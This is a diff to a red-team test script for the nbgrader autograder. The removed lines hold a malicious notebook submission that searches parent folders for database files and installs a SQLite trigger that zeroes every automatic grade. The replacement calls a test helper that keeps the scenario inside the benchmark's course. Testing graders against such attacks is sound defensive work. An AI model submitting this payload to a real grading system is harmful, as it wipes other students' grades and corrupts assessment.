@@ -34,17 +34,7 @@ from tests import test_redteam as T  # noqa: E402
 NBGRADER = str(Path(sys.executable).parent / "nbgrader")
 
 # Stock nbgrader has no sandbox: keep the destructive scenario inside the benchmark's course.
-LOCAL_TRIGGER = (M.PERFECT, ["""
-import glob, os, sqlite3
-for path in glob.glob(os.path.join(os.getcwd(), '../../..', '**', '*.db'), recursive=True)[:5]:
-    try:
-        db = sqlite3.connect(path)
-        db.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
-        db.commit()
-        print('TRIGGER INSTALLED', path)
-    except Exception as error:
-        print('blocked', path, type(error).__name__)
-"""], None)
+LOCAL_TRIGGER = (M.PERFECT, [T.trigger_code("[os.path.join(os.getcwd(), '../../..')]")], None)
 
 
 def scenarios():
